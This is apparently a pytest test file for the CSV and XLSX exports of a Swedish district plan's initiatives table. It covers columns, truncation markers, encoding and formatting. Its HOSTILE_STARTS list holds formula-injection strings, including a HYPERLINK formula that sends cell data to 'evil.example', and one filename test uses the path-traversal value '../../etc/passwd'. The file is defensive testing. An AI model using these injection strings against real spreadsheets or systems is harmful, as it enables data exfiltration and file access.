"""The downloads staff take away: the table, CSV for Swedish Excel, and XLSX."""

from __future__ import annotations

import datetime as dt
import io

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from soderort import exports
from soderort.loading import PlanData
from soderort.model import CommitteeRole, Initiative, Role
from soderort.readings import reading_mark, shown_text
from soderort.render import spreadsheet_cells, spreadsheet_files
from soderort.render.spreadsheet_cells import neutralise_csv_field, without_control_characters

SV_COLUMNS = [
    "id",
    "Rubrik",
    "Uppdrag",
    "Uppdragsgivare",
    "Förväntat resultat",
    "Tidplan",
    "Ansvarig nämnd",
    "Områden",
    "Nämnder",
    "Teman",
    "Status i planen (2010)",
    "Start",
    "Mål",
    "Avklippt",
    "Källa",
    "Status i dag",
    "Uppföljningens datum",
    "Uppföljningens källa",
    "Vad källorna säger",
]
EN_COLUMNS = [
    "id",
    "Heading",
    "Assignment",
    "Commissioned by",
    "Expected result",
    "Timeline",
    "Responsible committee",
    "Places",
    "Committees",
    "Themes",
    "Status in the plan (2010)",
    "Start",
    "Target",
    "Cut off in source",
    "Source",
    "Status today",
    "Follow-up date",
    "Follow-up source",
    "What the sources say",
]
HOSTILE_STARTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=flik först",
    "\r=vagnretur först",
]


def _row(frame: pd.DataFrame, initiative_id: str) -> pd.Series:
    return frame.set_index("id").loc[initiative_id]


def _read_csv(data: bytes) -> pd.DataFrame:
    # keep_default_na: a cell reading "NA" or empty stays text, as a spreadsheet shows it.
    return pd.read_csv(
        io.BytesIO(data), sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False
    )


def _hostile(plan_data: PlanData) -> list[Initiative]:
    base = plan_data.initiative("telefonplan-kreativa-naringar")
    return [
        base.model_copy(update={"id": f"farlig-{n}", "rubrik": text, "uppdrag": text})
        for n, text in enumerate(HOSTILE_STARTS)
    ]


# -------------------------------------------------------------------------------- the table


def test_columns_in_order_swedish(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    assert list(frame.columns) == SV_COLUMNS


def test_columns_in_order_english(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives, language="en")
    assert list(frame.columns) == EN_COLUMNS


def test_one_row_per_given_initiative_in_the_given_order(plan_data: PlanData) -> None:
    chosen = [plan_data.initiatives[5], plan_data.initiatives[0], plan_data.initiatives[12]]
    frame = exports.initiatives_table(plan_data, chosen)
    assert frame["id"].tolist() == [i.id for i in chosen]
    assert frame["Rubrik"].tolist() == [i.rubrik for i in chosen]


def test_all_nineteen_initiatives(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    assert len(frame) == 19
    assert frame["id"].is_unique


def test_empty_selection_keeps_the_headers(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, [])
    assert list(frame.columns) == SV_COLUMNS
    assert frame.empty
    lines = spreadsheet_files.to_csv_bytes(frame).decode("utf-8-sig").split("\r\n")
    assert lines[0].split(";") == SV_COLUMNS
    assert lines[1:] == [""]


def test_cut_off_cells_end_with_marker_and_are_named(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    row = _row(frame, "fler-arbetsplatser")
    source = plan_data.initiative("fler-arbetsplatser")
    assert row["Förväntat resultat"] == source.forvantat_resultat + " …"
    assert row["Ansvarig nämnd"] == source.ansvarig_namnd + " …"
    assert row["Avklippt"] == "Förväntat resultat, Ansvarig nämnd"
    # A complete cell is left as the source has it.
    assert row["Uppdrag"] == source.uppdrag
    assert _row(frame, "hela-soderort")["Avklippt"] == ""


def test_every_cut_off_cell_and_only_those_end_with_marker(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    for item in plan_data.initiatives:
        row = _row(frame, item.id)
        for field in exports.EXPORT_TEXT_FIELDS:
            cell = row[exports.header(field)]
            assert cell.endswith(" …") == item.is_truncated(field), (item.id, field)


def test_english_names_the_cut_off_columns_in_english(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives, language="en")
    row = _row(frame, "fler-arbetsplatser")
    assert row["Cut off in source"] == "Expected result, Responsible committee"
    # The initiative texts stay Swedish.
    assert row["Heading"] == "Fler arbetsplatser"
    assert row["Status in the plan (2010)"] == "Planned"


def test_places_are_named_and_joined(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    assert _row(frame, "samverkan-sodertorn")["Områden"] == "Södertörn; Hela Söderort"
    english = exports.initiatives_table(plan_data, plan_data.initiatives, language="en")
    assert _row(english, "hela-soderort")["Places"] == "All of Söderort"


def test_committees_canonical_with_roles(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    assert _row(frame, "fler-arbetsplatser")["Nämnder"] == (
        "Stockholm Business Region (ansvarig); Stadsbyggnadsnämnden (i samverkan)"
    )


def test_committees_list_leads_first(plan_data: PlanData) -> None:
    base = plan_data.initiative("hela-soderort")
    reordered = base.model_copy(
        update={
            "committees": [
                CommitteeRole(id="kulturnamnden", role=Role.COLLABORATOR),
                CommitteeRole(id="kommunstyrelsen", role=Role.LEAD),
            ]
        }
    )
    frame = exports.initiatives_table(plan_data, [reordered])
    assert frame.loc[0, "Nämnder"] == "Kommunstyrelsen (ansvarig); Kulturnämnden (i samverkan)"


def test_themes_status_years_and_source(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    row = _row(frame, "fler-arbetsplatser")
    assert row["Teman"] == "Fler arbetsplatser"
    assert row["Status i planen (2010)"] == "Planerat"
    assert row["Mål"] == 2030
    assert pd.isna(row["Start"])
    assert row["Källa"] == "s. 1, rad 2"
    assert _row(frame, "samverkan-med-naringslivet")["Status i planen (2010)"] == "Ej angivet"
    assert pd.isna(_row(frame, "samverkan-med-naringslivet")["Mål"])


def test_source_names_where_the_plan_refers_back(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    assert _row(frame, "kungens-kurva-skarholmen")["Källa"] == "s. 1, rad 9 (även s. 2, rad 6)"


def test_a_start_period_is_written_as_the_period_not_a_year(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    periods = [i for i in plan_data.initiatives if i.timeline.start_period is not None]
    assert [i.id for i in periods] == ["kungens-kurva-skarholmen"]
    assert _row(frame, "kungens-kurva-skarholmen")["Start"] == "2000–2009"
    assert _row(frame, "sociala-foretag")["Start"] == 2010


@pytest.mark.parametrize("language", ["sv", "en"])
def test_every_uncertain_reading_is_marked_with_the_ocr_letters(
    plan_data: PlanData, language: str
) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives, language)
    found = 0
    for item in plan_data.initiatives:
        for reading in item.uncertain_readings:
            cell = str(_row(frame, item.id)[exports.header(reading.field, language)])
            assert f"{reading.reading} {reading_mark(reading, language)}" in cell
            assert reading.ocr in cell
            found += 1
    assert found >= 1
    csv_text = spreadsheet_files.to_csv_bytes(frame).decode("utf-8-sig")
    xlsx = _sheet(spreadsheet_files.to_xlsx_bytes(frame))
    cells = [str(v) for row in xlsx.iter_rows(values_only=True) for v in row]
    for text in (csv_text, " ".join(cells)):
        assert "Farsta läge [" in text and "Farsta large" in text


# ----------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("text", HOSTILE_STARTS)
def test_neutralise_formula_prefixes_apostrophe(text: str) -> None:
    assert spreadsheet_cells.neutralise_formula(text) == "'" + without_control_characters(text)


@pytest.mark.parametrize(
    "value", ["Hela Söderort", "", "– tankstreck", "'redan text", "a=b", 2030, None, 1.5]
)
def test_neutralise_formula_leaves_the_rest(value: object) -> None:
    assert spreadsheet_cells.neutralise_formula(value) == value


# ---------------------------------------------------------------------------------- CSV


def test_csv_has_bom_semicolons_and_crlf(plan_data: PlanData) -> None:
    data = spreadsheet_files.to_csv_bytes(
        exports.initiatives_table(plan_data, plan_data.initiatives)
    )
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    first_line = text.split("\r\n")[0]
    assert first_line.split(";") == SV_COLUMNS
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")


def test_csv_reads_back_every_row_with_swedish_letters(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    back = _read_csv(spreadsheet_files.to_csv_bytes(frame))
    assert list(back.columns) == SV_COLUMNS
    assert back["id"].tolist() == [i.id for i in plan_data.initiatives]
    assert back["Rubrik"].tolist() == [shown_text(i, "rubrik") for i in plan_data.initiatives]
    assert "Söderstaden inklusive överdäckning av Nynäsvägen" in back["Rubrik"].tolist()
    expected = frame.astype(object).where(frame.notna(), "").astype(str)
    pd.testing.assert_frame_equal(back, expected, check_dtype=False)


def test_csv_keeps_separators_quotes_and_line_breaks_inside_cells(plan_data: PlanData) -> None:
    tricky = 'Ett; två "citat"\nny rad, och komma'
    item = plan_data.initiatives[0].model_copy(update={"uppdrag": tricky})
    back = _read_csv(spreadsheet_files.to_csv_bytes(exports.initiatives_table(plan_data, [item])))
    assert back.loc[0, "Uppdrag"] == tricky


def test_csv_neutralises_formulas(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, _hostile(plan_data))
    back = _read_csv(spreadsheet_files.to_csv_bytes(frame))
    for text, rubrik, uppdrag in zip(HOSTILE_STARTS, back["Rubrik"], back["Uppdrag"], strict=True):
        # An apostrophe where the cell (or, after a line break, a row) would start a formula.
        assert rubrik == uppdrag == neutralise_csv_field(text) != text
        assert "'=" in rubrik or rubrik.startswith("'")


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=80))
def test_csv_round_trips_any_text(plan_data: PlanData, text: str) -> None:
    item = plan_data.initiatives[0].model_copy(update={"uppdrag": text})
    back = _read_csv(spreadsheet_files.to_csv_bytes(exports.initiatives_table(plan_data, [item])))
    assert back.loc[0, "Uppdrag"] == neutralise_csv_field(text)


# --------------------------------------------------------------------------------- XLSX


def _sheet(data: bytes):  # noqa: ANN202 (openpyxl's worksheet type)
    return load_workbook(io.BytesIO(data)).active


def test_xlsx_header_bold_frozen_filtered(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    sheet = _sheet(spreadsheet_files.to_xlsx_bytes(frame))
    assert sheet.title == "Initiativ"
    assert [cell.value for cell in sheet[1]] == SV_COLUMNS
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes in ("A2", "B2")
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(SV_COLUMNS))}{len(frame) + 1}"


def test_xlsx_holds_every_row_with_swedish_letters(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    sheet = _sheet(spreadsheet_files.to_xlsx_bytes(frame))
    assert sheet.max_row == 20
    rubriker = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert rubriker == [shown_text(i, "rubrik") for i in plan_data.initiatives]
    targets = {row[0]: row[12] for row in sheet.iter_rows(min_row=2, values_only=True)}
    # Years stay numbers, so that the column sorts and filters as numbers.
    assert targets["fler-arbetsplatser"] == 2030
    assert targets["samverkan-med-naringslivet"] is None


def test_xlsx_columns_sized_and_text_wrapped(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives)
    sheet = _sheet(spreadsheet_files.to_xlsx_bytes(frame))
    widths = {
        cell.column_letter: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]
    }
    assert all(
        spreadsheet_files.MIN_COLUMN_WIDTH <= w <= spreadsheet_files.MAX_COLUMN_WIDTH
        for w in widths.values()
    )
    assert widths["C"] == spreadsheet_files.MAX_COLUMN_WIDTH  # Uppdrag: long texts, capped
    assert widths["L"] < 15  # Start: short years
    cell = sheet["C2"]
    assert cell.alignment.wrap_text
    assert cell.alignment.vertical == "top"


def test_xlsx_neutralises_formulas_as_text_cells(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, _hostile(plan_data))
    sheet = _sheet(spreadsheet_files.to_xlsx_bytes(frame))
    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE_STARTS, strict=True):
        for cell in (row[1], row[2]):  # Rubrik, Uppdrag
            assert isinstance(cell.value, str)
            assert cell.value.startswith("'")
            # Control characters go first (a tab becomes a space, a carriage return a line feed).
            assert cell.value[1:] == without_control_characters(text)
            assert cell.data_type == "s"


def test_xlsx_drops_characters_a_workbook_cannot_hold(plan_data: PlanData) -> None:
    item = plan_data.initiatives[0].model_copy(update={"uppdrag": "före\x00\x07efter"})
    sheet = _sheet(spreadsheet_files.to_xlsx_bytes(exports.initiatives_table(plan_data, [item])))
    assert sheet["C2"].value == "föreefter"


def test_xlsx_english_headers_and_custom_title(plan_data: PlanData) -> None:
    frame = exports.initiatives_table(plan_data, plan_data.initiatives[:2], language="en")
    sheet = _sheet(spreadsheet_files.to_xlsx_bytes(frame, sheet_title="Initiatives: [filtered]"))
    assert [cell.value for cell in sheet[1]] == EN_COLUMNS
    assert sheet.title == "Initiatives   filtered"


# ------------------------------------------------------------------------------ filename


def test_export_filename() -> None:
    day = dt.date(2026, 11, 27)
    assert (
        spreadsheet_files.export_filename("soderort-2030-initiativ", "csv", today=day)
        == "soderort-2030-initiativ-2026-11-27.csv"
    )
    assert spreadsheet_files.export_filename("Söderort 2030", ".xlsx", today=day) == (
        "soderort-2030-2026-11-27.xlsx"
    )
    assert spreadsheet_files.export_filename("../../etc/passwd", "pdf", today=day) == (
        "etc-passwd-2026-11-27.pdf"
    )


def test_export_filename_defaults_to_today() -> None:
    name = spreadsheet_files.export_filename("soderort-2030-initiativ", "csv")
    assert name == f"soderort-2030-initiativ-{dt.date.today().isoformat()}.csv"
